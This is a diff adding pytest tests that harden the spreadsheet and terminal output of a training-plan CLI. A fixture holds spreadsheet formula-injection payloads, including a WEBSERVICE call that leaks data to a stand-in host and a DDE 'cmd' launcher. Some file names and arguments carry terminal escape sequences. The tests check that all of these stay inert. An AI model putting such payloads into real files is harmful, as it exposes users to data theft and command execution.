@@ -347,3 +347,96 @@ def test_a_closed_stdout_does_not_change_the_exit_code(tmp_path):
         assert proc.returncode == expected, err
         assert b"Traceback" not in err and b"Exception ignored" not in err
     assert (tmp_path / "p.xlsx").exists()
+
+
+# ---------------------------------------------------------------------- output
+INJECTION = """\
+name: '=WEBSERVICE("http://example.invalid/?leak")'
+start: 2027-01-04
+weeks: 2
+athlete: {name: "+cmd|' /C calc'!A0", availability: {mon: 90, wed: 90, sat: 90, sun: 120}}
+races: [{date: 2027-01-17, name: "@SUM(1+1)"}]
+sessions: {easy_run: {details: "=1+1"}}
+runs: {easy_runs: 2}
+variants: {"=HYPERLINK(1)": {runs.easy_runs: 1}, "-2+3": {runs.easy_runs: 0}}
+"""
+
+
+def _formula_cells(path: Path) -> list[str]:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(path)
+    return [
+        f"{ws.title}!{cell.coordinate}"
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+def test_scenario_text_is_never_written_as_a_formula(tmp_path):
+    from openpyxl import load_workbook
+
+    path = tmp_path / "s.yaml"
+    path.write_text(INJECTION)
+    plan, comparison = tmp_path / "plan.xlsx", tmp_path / "compare.xlsx"
+    assert invoke("solve", path, "-o", plan, "--no-why").exit_code == 0
+    assert invoke("compare", path, "-o", comparison).exit_code == 0
+    assert _formula_cells(plan) == [] and _formula_cells(comparison) == []
+    wb = load_workbook(plan)
+    assert wb["Calendar"]["A1"].value.startswith('=WEBSERVICE("http')  # kept, as text
+    assert "=1+1" in [c.value for c in wb["Sessions"]["I"]]
+    names = [c.value for c in load_workbook(comparison)["Comparison"][1]]
+    assert "=HYPERLINK(1)" in names and "-2+3" in names
+
+
+def test_terminal_output_never_passes_escape_sequences(tmp_path):
+    path = tmp_path / "a\x1b]0;owned\x07\x1b[2J.yaml"
+    path.write_text(BASE + "athlete: {availability: {mon: 60, wed: 60, sat: 60}}\n")
+    for args in (
+        ["solve", path, "-o", tmp_path / "p.xlsx", "--no-why"],
+        ["solve", tmp_path / "\x1b[31mmissing.yaml"],
+        ["compare", path, "--variant", "v\x1b[5m: runs.easy_runs=0", "-o", tmp_path / "c.xlsx"],
+    ):
+        result = invoke(*args)
+        assert "\x1b" not in result.output and "\x07" not in result.output, result.output
+        assert result.exit_code in (0, 2), result.output
+
+
+@pytest.mark.parametrize("kind", ["directory", "fifo", "device", "missing folder", "dangling"])
+def test_output_must_be_a_regular_file_or_a_new_path(tmp_path, kind):
+    if kind == "directory":
+        target = tmp_path / "dir.xlsx"
+        target.mkdir()
+    elif kind == "fifo":
+        target = tmp_path / "pipe.xlsx"
+        os.mkfifo(target)
+    elif kind == "device":
+        target = Path(os.devnull)
+    elif kind == "missing folder":
+        target = tmp_path / "nowhere" / "plan.xlsx"
+    else:
+        target = tmp_path / "link.xlsx"
+        target.symlink_to(tmp_path / "nothing" / "there")
+    for command in (["solve", "--no-why"], ["compare", "--variant", "v: runs.easy_runs=0"]):
+        result = invoke(
+            command[0], ROOT / "scenarios" / "tight_week.yaml", "-o", target, *command[1:]
+        )
+        assert result.exit_code == 2, result.output
+        assert str(target) in result.output
+    if kind == "device":
+        assert Path(os.devnull).is_char_device()
+    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
+def test_workbooks_get_the_mode_the_umask_gives(tmp_path, umask):
+    out = tmp_path / "plan.xlsx"
+    previous = os.umask(umask)
+    try:
+        result = invoke("solve", ROOT / "scenarios" / "tight_week.yaml", "-o", out, "--no-why")
+    finally:
+        os.umask(previous)
+    assert result.exit_code == 0, result.output
+    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
